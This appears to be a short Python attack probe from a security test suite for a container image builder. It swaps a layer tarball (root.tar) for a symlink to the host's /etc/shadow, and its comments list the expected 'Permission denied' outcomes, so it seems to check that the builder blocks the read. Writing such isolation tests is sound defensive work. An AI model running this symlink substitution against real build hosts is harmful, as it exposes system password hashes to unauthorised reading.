# Makes the builder read a file of the host as the result: a link where the layer is to be.
# says: Permission denied|busy|not permitted
# control: no, it needs a bake
import glob, os

from attack import TARGETS
(result,) = glob.glob(TARGETS["work"] + "/*/root.tar")
os.unlink(result)
os.symlink("/etc/shadow", result)
